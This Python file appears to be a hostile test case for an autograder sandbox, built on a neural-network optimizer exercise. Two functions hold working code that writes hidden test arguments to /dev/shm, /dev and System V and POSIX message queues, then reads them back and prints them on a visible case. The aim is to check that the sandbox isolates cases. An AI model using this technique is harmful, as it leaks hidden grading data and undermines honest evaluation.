"""Hostile: hidden inputs carried to a later visible case through IPC that outlives a case's process.

A correct solution of Optimization methods with two functions turned into the attack.
update_parameters_with_gd (correct, so it passes) also stashes the arguments of every case it runs, the hidden
ones included, in places the runner never clears between cases: a file in /dev/shm and /dev (bwrap: both are
writable tmpfs), a System V message queue and a POSIX message queue (both backends: the sandbox's IPC namespace
is shared by all its cases). random_mini_batches then reads them back on its published (visible) case, prints
them and raises them: the student's card for random_mini_batches shows update_parameters_with_gd's hidden
learning rates and parameters.
What must happen: nothing of a hidden case reaches the student's card.
"""
import math

import numpy as np

import ctypes
import json
import os

def _stash(text):
    _libc, _MSG_KEY = ctypes.CDLL(None, use_errno=True), 0x6762
    data = text.encode()[:4000]
    for path in ("/dev/shm/gbx-leak", "/dev/gbx-leak"):
        try:
            with open(path, "ab") as handle:
                handle.write(data + b"\n")
        except OSError:
            pass
    queue = _libc.msgget(_MSG_KEY, 0o1666)
    if queue >= 0:
        buffer = ctypes.create_string_buffer(8 + len(data))
        ctypes.memmove(buffer, ctypes.byref(ctypes.c_long(1)), 8)
        ctypes.memmove(ctypes.addressof(buffer) + 8, data, len(data))
        _libc.msgsnd(queue, buffer, len(data), 0o4000)
    mq = _libc.mq_open(b"/gbx-leak", 0o100 | 0o1 | 0o4000, 0o666, None)
    if mq >= 0:
        _libc.mq_send(mq, data, min(len(data), 8192), 0)


def _collect():
    _libc, _MSG_KEY = ctypes.CDLL(None, use_errno=True), 0x6762
    found = {}
    for path in ("/dev/shm/gbx-leak", "/dev/gbx-leak"):
        try:
            with open(path) as handle:
                found[path] = handle.read()
        except OSError as exc:
            found[path] = type(exc).__name__
    messages, queue = [], _libc.msgget(_MSG_KEY, 0o666)
    buffer = ctypes.create_string_buffer(8 + 8192)
    while queue >= 0:
        size = _libc.msgrcv(queue, buffer, 8192, 0, 0o4000)
        if size < 0:
            break
        messages.append(buffer.raw[8:8 + size].decode())
    found["sysv"] = messages
    posix, mq = [], _libc.mq_open(b"/gbx-leak", 0o4000, 0, None)
    buffer = ctypes.create_string_buffer(8192)
    while mq >= 0:
        size = _libc.mq_receive(mq, buffer, 8192, None)
        if size < 0:
            break
        posix.append(buffer.raw[:size].decode())
    found["posix_mq"] = posix
    return found



def update_parameters_with_gd(parameters, grads, learning_rate):
    """One step of (batch) gradient descent on every layer."""
    _stash(json.dumps({"learning_rate": learning_rate,
                       **{k: np.round(np.asarray(v).ravel()[:3], 4).tolist() for k, v in parameters.items()}}))
    L = len(parameters) // 2
    for l in range(L):
        parameters["W" + str(l + 1)] = parameters["W" + str(l + 1)] - learning_rate * grads["dW" + str(l + 1)]
        parameters["b" + str(l + 1)] = parameters["b" + str(l + 1)] - learning_rate * grads["db" + str(l + 1)]
    return parameters


def random_mini_batches(X, Y, mini_batch_size=64, seed=0):
    """Shuffle the columns of X and Y together, then cut them into mini-batches."""
    found = _collect()
    print("LEAKED", json.dumps(found))
    raise RuntimeError("LEAKED " + json.dumps(found["sysv"] or found["posix_mq"]))
    np.random.seed(seed)
    m = X.shape[1]
    mini_batches = []

    permutation = list(np.random.permutation(m))
    shuffled_X = X[:, permutation]
    shuffled_Y = Y[:, permutation].reshape((1, m))

    num_complete_minibatches = math.floor(m / mini_batch_size)
    for k in range(0, num_complete_minibatches):
        mini_batch_X = shuffled_X[:, k * mini_batch_size:(k + 1) * mini_batch_size]
        mini_batch_Y = shuffled_Y[:, k * mini_batch_size:(k + 1) * mini_batch_size]
        mini_batches.append((mini_batch_X, mini_batch_Y))

    if m % mini_batch_size != 0:
        mini_batch_X = shuffled_X[:, num_complete_minibatches * mini_batch_size:m]
        mini_batch_Y = shuffled_Y[:, num_complete_minibatches * mini_batch_size:m]
        mini_batches.append((mini_batch_X, mini_batch_Y))

    return mini_batches


def initialize_velocity(parameters):
    """Velocities start at zero with the shape of the parameter they follow."""
    L = len(parameters) // 2
    v = {}
    for l in range(L):
        v["dW" + str(l + 1)] = np.zeros(parameters["W" + str(l + 1)].shape)
        v["db" + str(l + 1)] = np.zeros(parameters["b" + str(l + 1)].shape)
    return v


def update_parameters_with_momentum(parameters, grads, v, beta, learning_rate):
    """Momentum: step along the exponentially weighted average of the gradients."""
    L = len(parameters) // 2
    for l in range(L):
        v["dW" + str(l + 1)] = beta * v["dW" + str(l + 1)] + (1 - beta) * grads["dW" + str(l + 1)]
        v["db" + str(l + 1)] = beta * v["db" + str(l + 1)] + (1 - beta) * grads["db" + str(l + 1)]
        parameters["W" + str(l + 1)] = parameters["W" + str(l + 1)] - learning_rate * v["dW" + str(l + 1)]
        parameters["b" + str(l + 1)] = parameters["b" + str(l + 1)] - learning_rate * v["db" + str(l + 1)]
    return parameters, v


def initialize_adam(parameters):
    """Both Adam moments start at zero with the shape of the parameter they follow."""
    L = len(parameters) // 2
    v = {}
    s = {}
    for l in range(L):
        v["dW" + str(l + 1)] = np.zeros(parameters["W" + str(l + 1)].shape)
        v["db" + str(l + 1)] = np.zeros(parameters["b" + str(l + 1)].shape)
        s["dW" + str(l + 1)] = np.zeros(parameters["W" + str(l + 1)].shape)
        s["db" + str(l + 1)] = np.zeros(parameters["b" + str(l + 1)].shape)
    return v, s


def update_parameters_with_adam(parameters, grads, v, s, t, learning_rate=0.01,
                                beta1=0.9, beta2=0.999, epsilon=1e-8):
    """Adam as in the course code: epsilon is added after the square root."""
    L = len(parameters) // 2
    v_corrected = {}
    s_corrected = {}
    for l in range(L):
        for name in ("dW" + str(l + 1), "db" + str(l + 1)):
            v[name] = beta1 * v[name] + (1 - beta1) * grads[name]
            v_corrected[name] = v[name] / (1 - beta1 ** t)
            s[name] = beta2 * s[name] + (1 - beta2) * grads[name] ** 2
            s_corrected[name] = s[name] / (1 - beta2 ** t)
        parameters["W" + str(l + 1)] = parameters["W" + str(l + 1)] - learning_rate * (
            v_corrected["dW" + str(l + 1)] / (np.sqrt(s_corrected["dW" + str(l + 1)]) + epsilon))
        parameters["b" + str(l + 1)] = parameters["b" + str(l + 1)] - learning_rate * (
            v_corrected["db" + str(l + 1)] / (np.sqrt(s_corrected["db" + str(l + 1)]) + epsilon))
    return parameters, v, s
